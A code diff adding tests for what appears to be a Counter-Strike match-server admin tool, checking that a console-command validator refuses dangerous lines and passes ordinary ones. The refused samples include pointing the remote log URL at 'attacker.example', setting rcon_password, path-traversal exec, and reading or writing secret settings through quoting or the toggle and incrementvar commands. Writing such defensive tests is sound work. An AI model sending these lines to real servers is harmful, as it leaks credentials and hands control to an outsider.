@@ -289,6 +289,55 @@ describe("MatchZy push commands", () => {
   });
 });
 
+describe("a free console line is judged on the command the console runs", () => {
+  // The console groups quoted text and drops the quotes: `"quit"` runs quit.
+  test.each([
+    ['"matchzy_remote_log_url" "http://attacker.example/"'],
+    ['"get5_remote_log_header_value" x'],
+    ['"matchzy_remote_log_header_value"'],
+    ['"banid" 0 76561198000000001'],
+    ['"sm_rcon" x'],
+    ['"unbindall"'],
+    ['"QUIT"'],
+    ["'quit'"],
+    ['"rcon_password" hunter2'],
+    ['  "sv_rcon_whitelist_address"  1.2.3.4'],
+    ['"exec" ../../autoexec'],
+    ["toggle rcon_password a b"],
+    ['incrementvar "sv_rcon_banpenalty" 0 10 1'],
+    ["help matchzy_remote_log_header_value"],
+    ["echo matchzy_remote_log_header_value"],
+    ["cvarlist"],
+    ['find "remote_log"'],
+    ['"quit'],
+    ["(exit)"],
+  ])("%s is refused", (line) => {
+    expect(() => validateFreeCommand(line)).toThrow(InvalidActionError);
+  });
+
+  test.each([
+    ['sv_cheats "1"', 'sv_cheats "1"'],
+    ['mp_roundtime "1.92"', 'mp_roundtime "1.92"'],
+    ['exec "pistols_only"', 'exec "pistols_only"'],
+  ])("%s is still sent as typed", (line, sent) => {
+    expect(validateFreeCommand(line)).toBe(sent);
+  });
+
+  test("the cvar action cannot reach a write-only setting through another command", () => {
+    for (const [cvar, value] of [
+      ["toggle", "rcon_password a b"],
+      ["incrementvar", "matchzy_remote_log_url 0 1 1"],
+      ["mp_teamname_1", "matchzy_remote_log_header_value"],
+    ] as const) {
+      expect(() => consoleCommands({ kind: "cvar", cvar, value })).toThrow(InvalidActionError);
+    }
+  });
+
+  test("a quoted toggle command still keeps the switch in sync", () => {
+    expect(toggleFromCommand('"sv_cheats" "1"')).toEqual({ toggle: "cheats", enabled: true });
+  });
+});
+
 describe("toggleFromCommand", () => {
   test.each([
     ["sv_cheats 1", { toggle: "cheats", enabled: true }],
